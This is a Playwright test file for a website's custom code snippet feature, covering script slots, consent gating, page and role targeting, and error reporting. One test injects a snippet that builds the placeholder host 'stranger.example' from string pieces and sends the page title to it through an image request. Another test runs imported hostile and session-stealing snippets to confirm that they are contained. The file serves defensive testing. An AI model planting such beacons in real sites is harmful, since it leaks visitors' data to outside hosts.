import type { Page } from "@playwright/test";
import { hostileSnippets, smugglers } from "../hostile-snippets.ts";
import { createPerson, testPassword } from "../signed-in.ts";
import { desktop, enterPassword, expect, fillQuote, phone, test } from "./fixtures.ts";
import { addCodes, removeCodes } from "./placed-codes.ts";

const list = (page: Page) =>
  page.evaluate(() => (window as unknown as { ran?: string[] }).ran ?? []);
const note = (word: string): string => `(window.ran = window.ran || []).push("${word}");`;

test("custom codes run in their slots after the first touch, those with a category after consent", async ({
  server,
  visitorPage,
}) => {
  const page = await visitorPage(desktop);
  const loaded: string[] = [];
  await page.route("https://cdn.example.com/**", (route) => {
    loaded.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: note("file") });
  });
  try {
    await addCodes(server, [
      { content: note("head"), position: "head_start" },
      { content: note("head end") },
      { content: note("body"), position: "body_start" },
      { content: note("body end"), position: "body_end" },
      { content: '<script async src="https://cdn.example.com/a.js"></script>' },
      { content: note("analytics"), type: "analytics", consent: "analytics" },
      { content: note("marketing"), type: "conversion_tracking", consent: "marketing" },
      { content: ".snippet-style{color:red}", type: "css" },
      {
        content: '<p class="snippet-note">Closed on Friday</p>',
        type: "html",
        position: "body_end",
      },
    ]);
    await page.goto("/contact");
    await page.waitForLoadState("load");
    expect(await list(page)).toEqual([]);
    expect(loaded).toEqual([]);
    await expect(page.getByText("Closed on Friday")).toBeVisible();

    await page.mouse.move(200, 200);
    await page.mouse.move(220, 220);
    await expect.poll(() => list(page)).toContain("file");
    expect((await list(page)).filter((word) => word !== "file")).toEqual([
      "head",
      "head end",
      "body",
      "body end",
    ]);
    const bar = page.getByRole("region", { name: "Privacy choices" });
    await bar.getByText("Choose").click();
    await bar.getByLabel("Analytics").check();
    await bar.getByRole("button", { name: "Save my choice" }).click();
    await expect.poll(() => list(page)).toContain("analytics");
    expect(await list(page)).not.toContain("marketing");
    await expect(
      page.getByText("Closed on Friday"),
      "React keeps it when it hydrates",
    ).toBeVisible();
  } finally {
    await removeCodes(server);
  }
});

test("every type is there, on its pages and for its readers", async ({
  server,
  visitorPage,
  staffPage,
}) => {
  try {
    await addCodes(server, [
      ...["header_script", "body_script", "javascript"].map((type) => ({
        content: note(type),
        type,
      })),
      { content: note("end"), type: "body_script", position: "body_end" },
      { content: '<meta name="verification" content="abc">', type: "meta_tags" },
      {
        content: '{"@context":"https://schema.org","@type":"Event","name":"Open day"}',
        type: "schema_markup",
      },
      { content: ".zip-note{color:rgb(1,2,3)}", type: "css" },
      {
        content: '<p class="zip-note">From the html code</p>',
        type: "html",
        position: "body_start",
      },
      { content: "<p>From the other code</p>", type: "other", position: "body_end" },
      { content: note("exact path"), pages: "/services" },
      { content: note("prefix"), pages: "/services/*" },
      { content: note("another path"), pages: "/contact" },
      ...["guest", "admin", "blogger", "seo", "commenter"].map((readers) => ({
        content: note(readers),
        readers,
      })),
    ]);
    const everywhere = ["header_script", "body_script", "javascript", "end"];
    const readAt = async (page: Page, path: string): Promise<string[]> => {
      await page.goto(path);
      await page.mouse.move(200, 200);
      await page.mouse.move(220, 220);
      await expect.poll(() => list(page)).toContain("end");
      return (await list(page)).filter((word) => !everywhere.includes(word));
    };
    const visitor = await visitorPage(desktop);
    expect(await readAt(visitor, "/services")).toEqual(["exact path", "prefix", "guest"]);
    expect(await list(visitor)).toEqual(expect.arrayContaining(everywhere));
    await expect(visitor.locator('head meta[name="verification"]')).toHaveCount(1);
    expect(await visitor.locator("head").textContent()).toContain('"name":"Open day"');
    await expect(visitor.getByText("From the html code")).toHaveCSS("color", "rgb(1, 2, 3)");
    await expect(visitor.getByText("From the other code")).toBeVisible();
    expect(await readAt(visitor, "/services/termite-control")).toEqual(["prefix", "guest"]);
    expect(await readAt(await staffPage("commenter", desktop), "/contact")).toEqual([
      "another path",
      "commenter",
    ]);
    for (const role of ["admin", "blogger", "seo"] as const) {
      const page = await staffPage(role, desktop);
      await page.goto("/contact");
      await page.mouse.move(200, 200);
      await page.mouse.move(220, 220);
      await expect.poll(() => list(page), "only what names the role").toEqual([role]);
      await page.getByRole("link", { name: "As a visitor has it" }).click();
      await page.mouse.move(200, 200);
      await page.mouse.move(220, 220);
      await expect.poll(() => list(page)).toContain("end");
      expect((await list(page)).filter((word) => !everywhere.includes(word))).toEqual([
        "another path",
        "guest",
      ]);
    }
  } finally {
    await removeCodes(server);
  }
});

test("hostile codes run nothing but themselves, reach no stranger and read no session", async ({
  server,
  visitorPage,
}) => {
  const page = await visitorPage(desktop);
  const { email } = await createPerson(server.connection, "admin", "smuggled-to@example.com");
  await enterPassword(page, email, testPassword);
  const asked: string[] = [];
  await page.route("https://stranger.example/**", (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  try {
    await addCodes(server, [
      ...hostileSnippets.map(([, type, content]) => ({ type, content })),
      ...hostileSnippets.map(([, type, content]) => ({ type, content, position: "body_start" })),
      ...smugglers.map((content) => ({ content, position: "body_end" })),
      { content: `setTimeout(() => { ${note("end")} }, 300);`, position: "body_end" },
    ]);
    await page.goto("/about");
    // Its attempts to leave the page keep it from ever being loaded.
    const link = page.getByRole("link", { name: "As a visitor has it" });
    const answer = await page.goto((await link.getAttribute("href")) ?? "", {
      waitUntil: "commit",
    });
    const html = (await answer?.text()) ?? "";
    expect(html.match(/data-snippet=/g)).toHaveLength(smugglers.length + 1);
    await page.mouse.move(200, 200);
    await page.mouse.move(220, 220);
    await expect.poll(() => list(page)).toContain("end");
    expect(await list(page)).toEqual([...smugglers.map(() => "tried"), "end"]);
    expect(asked).toEqual([]);
    const stolen = await page.evaluate(() => (window as unknown as { stolen?: string }).stolen);
    const secrets = (await page.context().cookies()).filter(({ name }) => /session/i.test(name));
    expect(secrets.length).toBeGreaterThan(0);
    for (const { value } of secrets) expect(stolen).not.toContain(value);
    await expect(page).toHaveURL(/\/about\?as-visitor=/);
  } finally {
    await removeCodes(server);
  }
});

test("a broken code breaks no form, reaches no host that it does not name, and is reported", async ({
  server,
  visitorPage,
}) => {
  // Machines are not counted.
  const userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36";
  const page = await visitorPage({ ...phone, userAgent });
  const asked: string[] = [];
  await page.route("https://stranger.example/**", (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  const reports: { snippet?: string; ticket?: string }[] = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/beacon")) reports.push(request.postDataJSON() as object);
  });
  try {
    const [broken, late] = await addCodes(server, [
      { content: "thisIsMissing.call();" },
      { content: "setTimeout(() => { alsoMissing(); }, 50);", position: "body_end" },
      { content: "syntax error here(", position: "body_start" },
      {
        content:
          'var host = "stranger" + ".example"; new Image().src = "https:" + "//" + host + "/?" + document.title;',
      },
    ]);
    await page.goto("/contact");
    await fillQuote(page, "Dana Whitfield");
    await expect.poll(() => reports.map(({ snippet }) => snippet)).toContain(broken);
    await expect.poll(() => reports.map(({ snippet }) => snippet)).toContain(late);
    expect(asked).toEqual([]);
    await page.getByRole("button", { name: "Request a Quote" }).click();
    await expect(page.getByText("Form Submitted Successfully!").first()).toBeVisible();
  } finally {
    await removeCodes(server);
  }
});

test("the consent of a new code follows its type until it is chosen", async ({ staffPage }) => {
  const page = await staffPage("admin", desktop);
  await page.goto("/admin/codes/new?kind=own");
  const type = page.getByLabel("Type");
  const consent = page.getByLabel("Consent");
  await expect(consent).toHaveValue("analytics");
  for (const [chosen, follows] of [
    ["css", "none"],
    ["conversion_tracking", "marketing"],
    ["html", "none"],
    ["meta_tags", "none"],
    ["analytics", "analytics"],
  ] as const) {
    await type.selectOption(chosen);
    await expect(consent).toHaveValue(follows);
  }
  await consent.selectOption("marketing");
  await type.selectOption("css");
  await expect(consent).toHaveValue("marketing");
});

test("a type that is chosen before the scripts run decides the consent, too", async ({
  staffPage,
}) => {
  const page = await staffPage("admin", desktop);
  let release = (): void => {};
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route("**/*.js", async (route) => {
    await held;
    await route.continue();
  });
  await page.goto("/admin/codes/new?kind=own", { waitUntil: "commit" });
  await page.getByLabel("Type").selectOption("css");
  await expect(page.getByLabel("Consent")).toHaveValue("analytics");
  release();
  await expect(page.getByLabel("Consent")).toHaveValue("none");
});
